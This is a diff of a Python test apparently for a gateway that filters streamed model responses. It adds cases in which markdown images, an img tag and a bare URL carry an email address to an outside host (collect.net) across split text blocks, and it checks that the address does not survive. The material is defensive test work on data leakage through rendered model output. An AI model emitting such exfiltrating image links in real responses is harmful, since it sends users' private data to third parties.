@@ -287,11 +287,18 @@ def test_the_gateways_errors_have_the_shape_of_the_providers(session: Session) -
 
 def test_blocks_that_a_client_joins_are_guarded_together(session: Session) -> None:
     """The provider divides a text where it cites something."""
-    for lead, rest in (("See ![x](https://collect.net/?q=", f"{MAIL})"), ("<img src=https://collect.net/", f"{MAIL}>")):
-        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": lead})
+    for lead, rest in (
+        ("See ![x](https://collect.net/?q=", f"{MAIL})"),
+        ("<img src=https://collect.net/", f"{MAIL}>"),
+        ("See ![x](https://collect.net/?q=", f'{{"a":"{MAIL}"}})'),
+        ('{"a": 1} See ![x](https://collect.net/?q=', f"{MAIL})"),
+        (f'{{"a":"{MAIL}"}} See https://collect.net/?q=', f"{MAIL})"),
+    ):
+        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": session.write(lead)})
         second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", session.write(rest)))
         got = message(session.restored([sse(start(), *first, *second, *end())]))
-        assert MAIL not in "".join(each["text"] for each in got["content"])
+        assert f"q={MAIL}" not in "".join(each["text"] for each in got["content"])
+        assert MAIL not in got["content"][1]["text"]
     harmless = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Write to "})
     second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", session.write(f"{MAIL}.")))
     got = message(session.restored([sse(start(), *harmless, *second, *end())]))
